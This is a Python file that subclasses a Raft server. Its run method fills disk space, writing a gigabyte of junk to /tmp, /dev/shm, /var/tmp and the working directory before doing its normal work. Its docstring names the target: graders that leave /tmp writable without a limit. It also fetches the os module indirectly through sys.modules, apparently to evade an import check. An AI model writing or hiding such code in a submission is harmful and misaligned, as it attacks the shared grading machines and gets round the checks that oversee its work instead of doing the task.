"""Fills the disk, by files, and by holes in files.

Idea: measured: common graders give a writable /tmp without a limit.
Verdict: NotWritten: not written yet: start
"""

import sys

from elected import Raft as Server

os = sys.modules["os"]


class Raft(Server):
    async def run(self):
        for folder in ("/tmp", ".", "/dev/shm", "/var/tmp"):
            try:
                fd = os.open(f"{folder}/raft-attack-large", os.O_WRONLY | os.O_CREAT)
                for _ in range(1000):
                    os.write(fd, b"x" * (1 << 20))
                self.node.note("LEAKED wrote a gigabyte")
            except OSError:
                pass
        await super().run()
